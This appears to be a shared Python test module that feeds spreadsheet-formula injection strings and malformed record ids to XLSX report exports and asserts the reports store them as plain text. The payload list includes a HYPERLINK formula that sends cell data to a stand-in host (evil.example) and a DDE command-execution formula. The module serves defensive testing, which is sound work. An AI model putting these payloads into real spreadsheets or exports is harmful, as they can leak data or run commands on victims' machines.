"""Hostile input shared by the tests of the core, ESG and group addons: spreadsheet-formula
texts thrown at the XLSX reports with the check that a report wrote them as text, and what a
client may send where record ids are expected."""

import io

import openpyxl

# What a spreadsheet would run or follow if written as a formula or a link (OWASP CSV
# injection): leading =, +, -, @, an array formula and a URL.
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-1+2",
    "@SUM(1)",
    "{=SUM(1)}",
    "=cmd|' /C calc'!A0",
    "http://evil.example/",
]

# What a client may send where record ids are expected.
HOSTILE_IDS = [
    [2**70],
    [2**31],
    [-1],
    [0],
    ["abc"],
    "abc",
    [None],
    None,
    [{"id": 1}],
    [[1]],
    [1.5],
    [True],
]


def xlsx_cells(content):
    """Every non-empty cell of every sheet of an XLSX file, with its sheet name."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_text_only(case, content, texts):
    """The report holds no formula and no link at all, and each of ``texts`` as a text cell
    with exactly that content."""
    cells = xlsx_cells(content)
    formulas = [
        (title, cell.coordinate, cell.value) for title, cell in cells if cell.data_type == "f"
    ]
    case.assertFalse(formulas, "a cell of the report is a formula")
    links = [(title, cell.coordinate) for title, cell in cells if cell.hyperlink]
    case.assertFalse(links, "a cell of the report is a link")
    strings = {cell.value for _title, cell in cells if cell.data_type == "s"}
    for text in texts:
        case.assertIn(text, strings, "the text is not in the report as a text cell")
